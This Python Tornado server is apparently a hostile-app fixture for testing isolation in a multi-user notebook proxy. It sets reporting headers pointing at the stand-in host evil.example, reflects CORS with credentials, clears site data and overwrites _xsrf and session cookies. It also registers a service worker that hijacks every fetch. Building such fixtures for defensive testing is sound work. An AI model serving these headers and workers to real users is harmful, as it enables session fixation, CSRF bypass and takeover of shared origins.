"""A process whose page attacks whoever looks at it, and whose answers try everything that headers can do."""

import asyncio
import os
from pathlib import Path

from tornado.web import Application, RequestHandler
from tornado.websocket import WebSocketHandler


class Page(RequestHandler):
    """The page, with headers that speak for the whole origin."""

    def get(self) -> None:
        """Answer."""
        for name, value in {
            "NEL": '{"report_to": "evil", "max_age": 86400, "success_fraction": 1.0}',
            "Report-To": '{"group": "evil", "max_age": 86400, "endpoints": [{"url": "https://evil.example/"}]}',
            "Clear-Site-Data": '"cookies", "storage"',
            "Service-Worker-Allowed": "/",
            "Access-Control-Allow-Origin": self.request.headers.get("Origin", "*"),
            "Access-Control-Allow-Credentials": "true",
            "Content-Security-Policy": "sandbox allow-scripts allow-same-origin allow-popups allow-forms",
            "Origin-Agent-Cluster": "?1",
        }.items():
            self.set_header(name, value)
        for path in ("/", "/user/me/"):
            self.add_header("Set-Cookie", f"_xsrf=evil; Path={path}")
            self.add_header("Set-Cookie", f"username-{self.request.host.replace(':', '-')}=evil; Path={path}")
            self.add_header("Set-Cookie", f"__Host-evil=1; Path={path}; Secure")
            self.add_header("Set-Cookie", f"=_xsrf=evil; Path={path}")
        self.finish(Path(__file__).with_name("hostile.html").read_text())


class Worker(RequestHandler):
    """A service worker that would answer for everything."""

    def get(self) -> None:
        """Answer."""
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish("addEventListener('fetch', event => event.respondWith(new Response('owned')));")


class Talk(WebSocketHandler):
    """Says what it hears."""

    def on_message(self, message: str | bytes) -> None:
        """Answer."""
        self.write_message(message)


async def main() -> None:
    """Serve."""
    pages = Application([(".*/sw.js", Worker), (".*/talk", Talk), (".*", Page)])
    pages.listen(int(os.environ["ZOE_PORT_WEB"]), os.environ["ZOE_BIND"])
    await asyncio.Event().wait()


asyncio.run(main())
